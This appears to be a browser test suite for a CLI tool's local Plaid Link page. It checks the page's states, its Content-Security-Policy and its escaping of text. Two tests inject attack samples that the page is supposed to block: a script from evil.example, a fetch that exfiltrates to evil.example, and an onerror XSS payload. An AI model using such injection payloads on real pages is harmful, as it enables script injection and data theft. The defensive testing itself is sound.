@@ -1,0 +1,285 @@
+/**
+ * The Link page in real headless Chromium, against the real server. Plaid's script is
+ * replaced at the network layer by the stand-in in test/helpers/browser.ts; every other
+ * request that leaves 127.0.0.1 is refused and recorded.
+ */
+import { mkdir } from 'node:fs/promises';
+import { fileURLToPath } from 'node:url';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { afterAll, afterEach, describe, expect, it } from 'vitest';
+import {
+  FIRST_PLATYPUS,
+  SANDBOX_ACCOUNTS,
+  launchChromium,
+  routePlaidLinkStandIn,
+  standInRecord,
+  type PlaidLinkBehaviour,
+} from '../helpers/browser.js';
+import { PLAID_LINK_SCRIPT_URL, startLinkPage, type LinkOutcome, type LinkPageOptions, type LinkPageServer } from '../../src/link/server.js';
+
+const LINK_TOKEN = 'link-sandbox-6f1c1a7e-5b7d-4b9e-9a55-0c3b8a1d2e4f';
+const PUBLIC_TOKEN = 'public-sandbox-0b4d2a1c-93f0-4f1e-8a2b-7c6d5e4f3a2b';
+const SCREENSHOT = fileURLToPath(new URL('../../docs/link-page.png', import.meta.url));
+
+/*
+ * The page.evaluate callbacks below run in Chromium. The project compiles without the DOM
+ * lib, so this module declares just the browser globals they touch (module-scoped: they
+ * do not leak into other files).
+ */
+interface BrowserElement {
+  textContent: string | null;
+  hidden: boolean;
+  src: string;
+  setAttribute(name: string, value: string): void;
+  appendChild(child: BrowserElement): BrowserElement;
+}
+declare const document: {
+  body: BrowserElement;
+  getElementById(id: string): BrowserElement | null;
+  createElement(tag: string): BrowserElement;
+  addEventListener(type: 'securitypolicyviolation', listener: (e: { effectiveDirective: string; blockedURI: string }) => void): void;
+};
+declare const window: Record<string, unknown>;
+declare function fetch(url: string, init: { method: string; body: string }): Promise<unknown>;
+
+interface Violation {
+  directive: string;
+  blocked: string;
+}
+
+interface Session {
+  server: LinkPageServer;
+  page: Page;
+  /** Requests that tried to leave the machine other than for Plaid's script. */
+  external: string[];
+  violations(): Promise<Violation[]>;
+}
+
+// Launched on first use rather than in beforeAll: when Chromium is missing, every test
+// then fails with the install hint, instead of the suite reporting its tests as skipped.
+let launching: Promise<Browser> | undefined;
+const browser = (): Promise<Browser> => (launching ??= launchChromium());
+let context: BrowserContext | undefined;
+let server: LinkPageServer | undefined;
+
+afterAll(async () => {
+  await launching?.then((b) => b.close(), () => {});
+});
+afterEach(async () => {
+  await context?.close();
+  await server?.close();
+  context = undefined;
+  server = undefined;
+});
+
+async function open(
+  behaviour: PlaidLinkBehaviour,
+  options: Partial<LinkPageOptions> = {},
+  host: '127.0.0.1' | 'localhost' = '127.0.0.1',
+): Promise<Session> {
+  const chromium = await browser();
+  server = await startLinkPage({ linkToken: LINK_TOKEN, environment: 'sandbox', plaidHost: 'https://sandbox.plaid.com', ...options });
+  context = await chromium.newContext({ viewport: { width: 720, height: 640 }, deviceScaleFactor: 2, colorScheme: 'light' });
+  const external: string[] = [];
+  await context.route('**/*', async (route) => {
+    const url = new URL(route.request().url());
+    if (url.hostname === '127.0.0.1' || url.hostname === 'localhost') return route.continue();
+    external.push(url.href);
+    return route.abort('blockedbyclient');
+  });
+  const page = await context.newPage();
+  // Init scripts run before the page's own scripts and are not subject to its CSP.
+  await page.addInitScript(() => {
+    const seen: Array<{ directive: string; blocked: string }> = [];
+    window.__violations = seen;
+    document.addEventListener('securitypolicyviolation', (e) => seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
+  });
+  await routePlaidLinkStandIn(page, behaviour);
+  const url = new URL(server.url);
+  url.hostname = host;
+  await page.goto(url.href);
+  return {
+    server,
+    page,
+    external,
+    violations: () => page.evaluate(() => window.__violations as Violation[]),
+  };
+}
+
+function within<T>(promise: Promise<T>, ms = 10_000): Promise<T> {
+  return Promise.race([
+    promise,
+    new Promise<never>((_, reject) => setTimeout(() => reject(new Error(`not settled within ${ms} ms`)), ms)),
+  ]);
+}
+
+async function settled(promise: Promise<unknown>, ms = 300): Promise<boolean> {
+  let done = false;
+  promise.then(() => (done = true), () => (done = true));
+  await new Promise((r) => setTimeout(r, ms));
+  return done;
+}
+
+async function waitForState(page: Page, state: string): Promise<{ heading: string; status: string; detail: string }> {
+  await page.waitForSelector(`main[data-state="${state}"]`, { timeout: 10_000 });
+  return page.evaluate(() => ({
+    heading: document.getElementById('heading')!.textContent ?? '',
+    status: document.getElementById('status')!.textContent ?? '',
+    detail: document.getElementById('detail')!.hidden ? '' : (document.getElementById('detail')!.textContent ?? ''),
+  }));
+}
+
+describe('the Link page in Chromium', () => {
+  it('links an account: the outcome resolves and the page says so', async () => {
+    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: SANDBOX_ACCOUNTS });
+
+    const outcome = await within(s.server.outcome);
+    expect(outcome).toEqual<LinkOutcome>({
+      kind: 'success',
+      public_token: PUBLIC_TOKEN,
+      metadata: { institution: FIRST_PLATYPUS, accounts: SANDBOX_ACCOUNTS, link_session_id: '79e772be-547d-4c9c-8b76-4ac4ed4c441a' },
+    });
+
+    const shown = await waitForState(s.page, 'success');
+    expect(shown.heading).toBe('Account linked');
+    expect(shown.status).toBe('Linked First Platypus Bank. You can close this tab and return to the terminal.');
+    expect(await s.page.locator('#accounts li').allTextContents()).toEqual(['Plaid Checking••0000', 'Plaid Saving••1111', 'Plaid Credit Card••3333']);
+    expect(await s.page.locator('#open').isHidden()).toBe(true);
+    expect(await s.page.title()).toBe('Account linked — plaidbal');
+
+    const record = await standInRecord(s.page);
+    expect(record).toMatchObject({ created: 1, token: LINK_TOKEN, openCalls: 1 });
+    expect(record?.configKeys).toEqual(['onEvent', 'onExit', 'onLoad', 'onSuccess', 'token']);
+    expect(record?.events).toEqual(['OPEN', 'SELECT_INSTITUTION', 'SUBMIT_CREDENTIALS', 'HANDOFF']);
+    expect(await s.violations()).toEqual([]);
+    expect(s.external).toEqual([]);
+
+    await mkdir(new URL('../../docs/', import.meta.url), { recursive: true });
+    await s.page.screenshot({ path: SCREENSHOT, animations: 'disabled' });
+  });
+
+  it('works when the user opens it as localhost:<port>', async () => {
+    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: [] }, {}, 'localhost');
+    expect(new URL(s.page.url()).host).toMatch(/^localhost:\d+$/);
+    expect(await within(s.server.outcome)).toMatchObject({ kind: 'success', public_token: PUBLIC_TOKEN });
+    await waitForState(s.page, 'success');
+    expect(await s.violations()).toEqual([]);
+  });
+
+  it('says "Reconnected" in update mode', async () => {
+    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: [] }, { mode: 'update' });
+    await within(s.server.outcome);
+    const shown = await waitForState(s.page, 'success');
+    expect(shown.heading).toBe('Account reconnected');
+    expect(shown.status).toBe('Reconnected First Platypus Bank. You can close this tab and return to the terminal.');
+    expect(await s.page.title()).toBe('Account reconnected — plaidbal');
+  });
+
+  it('reports an exit with an error, and shows it', async () => {
+    const error = {
+      error_type: 'ITEM_ERROR',
+      error_code: 'INVALID_CREDENTIALS',
+      error_message: 'the provided credentials were not correct',
+      display_message: 'The provided credentials were not correct. Please try again.',
+    };
+    const s = await open({ kind: 'exit', error, institution: FIRST_PLATYPUS, status: 'requires_credentials' });
+
+    expect(await within(s.server.outcome)).toEqual<LinkOutcome>({
+      kind: 'exit',
+      error,
+      metadata: { institution: FIRST_PLATYPUS, status: 'requires_credentials', link_session_id: '79e772be-547d-4c9c-8b76-4ac4ed4c441a', request_id: 'Xq1Jk7Vn3LpZ8sQ' },
+    });
+    const shown = await waitForState(s.page, 'error');
+    expect(shown.heading).toBe('Link failed');
+    expect(shown.status).toBe('The provided credentials were not correct. Please try again. Return to the terminal for details.');
+    expect(shown.detail).toBe('INVALID_CREDENTIALS (ITEM_ERROR)');
+    expect(await s.violations()).toEqual([]);
+  });
+
+  it('reports the user closing Link as an exit without error', async () => {
+    const s = await open({ kind: 'exit', error: null });
+    const outcome = await within(s.server.outcome);
+    expect(outcome).toMatchObject({ kind: 'exit', error: null, metadata: { institution: null, status: null } });
+    const shown = await waitForState(s.page, 'closed');
+    expect(shown.heading).toBe('Link was closed');
+    expect(shown.status).toBe('No account was linked. You can close this tab and return to the terminal.');
+  });
+
+  it('offers an Open Link button when the first opening did not show Link', async () => {
+    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: [], requireUserActivation: true });
+    const button = s.page.getByRole('button', { name: 'Open Link' });
+    await s.page.waitForSelector('#open:not([disabled])'); // enabled by onLoad
+    expect(await settled(s.server.outcome)).toBe(false);
+    expect((await standInRecord(s.page))?.openCalls).toBe(1);
+
+    await button.click();
+    await within(s.server.outcome);
+    await waitForState(s.page, 'success');
+    expect((await standInRecord(s.page))?.openCalls).toBe(2);
+  });
+
+  it('shows a clear error when the Plaid script cannot be loaded', async () => {
+    const s = await open({ kind: 'unreachable' });
+    const shown = await waitForState(s.page, 'error');
+    expect(shown.heading).toBe('Couldn’t load Plaid Link');
+    expect(shown.status).toMatch(/could not be loaded from cdn\.plaid\.com.*reload this page/);
+    expect(await s.page.locator('#open').isHidden()).toBe(true);
+    expect(await settled(s.server.outcome)).toBe(false);
+    // The script URL is Plaid's, always: the failure happened on exactly that request.
+    const sources = await Promise.all((await s.page.locator('script[src]').all()).map((script) => script.getAttribute('src')));
+    expect(sources).toEqual([PLAID_LINK_SCRIPT_URL]);
+  });
+
+  it('blocks scripts that are not Plaid\'s or nonce\'d, and connections to other hosts', async () => {
+    const s = await open({ kind: 'exit', error: null });
+    await within(s.server.outcome);
+
+    await s.page.evaluate(() => {
+      const foreign = document.createElement('script');
+      foreign.src = 'https://evil.example/steal.js';
+      document.body.appendChild(foreign);
+      const inline = document.createElement('script');
+      inline.textContent = 'window.__injected = true;';
+      document.body.appendChild(inline);
+      const handler = document.createElement('img');
+      handler.setAttribute('src', 'data:,');
+      handler.setAttribute('onerror', 'window.__injected = true');
+      document.body.appendChild(handler);
+      fetch('https://evil.example/exfiltrate', { method: 'POST', body: 'x' }).catch(() => {});
+    });
+    await s.page.waitForFunction(() => (window.__violations as unknown[]).length >= 3);
+    await new Promise((r) => setTimeout(r, 200));
+
+    const violations = await s.violations();
+    expect(violations).toEqual(
+      expect.arrayContaining([
+        { directive: 'script-src-elem', blocked: 'https://evil.example/steal.js' },
+        { directive: 'script-src-elem', blocked: 'inline' },
+        { directive: 'connect-src', blocked: 'https://evil.example/exfiltrate' },
+      ]),
+    );
+    expect(await s.page.evaluate(() => window.__injected)).toBeUndefined();
+    // Blocked by the CSP before any request was made: nothing reached the network layer.
+    expect(s.external).toEqual([]);
+  });
+
+  it('renders data from Link as text, never as markup', async () => {
+    const hostile = { name: '<img src=x onerror="window.__xss=1">Bank', institution_id: 'ins_109508' };
+    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: hostile, accounts: [{ ...SANDBOX_ACCOUNTS[0]!, name: '<b>bold</b>' }] });
+    await within(s.server.outcome);
+    const shown = await waitForState(s.page, 'success');
+    expect(shown.status).toBe(`Linked ${hostile.name}. You can close this tab and return to the terminal.`);
+    expect(await s.page.locator('main img, main b').count()).toBe(0);
+    expect(await s.page.evaluate(() => window.__xss)).toBeUndefined();
+  });
+
+  it('tells the user when plaidbal has already taken a result', async () => {
+    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: [] });
+    await within(s.server.outcome);
+    await waitForState(s.page, 'success');
+    // A reload runs Link again; the server refuses a second result and the page says why.
+    await s.page.reload();
+    const shown = await waitForState(s.page, 'error');
+    expect(shown.status).toBe('This Link session has already finished. Return to the terminal.');
+  });
+});
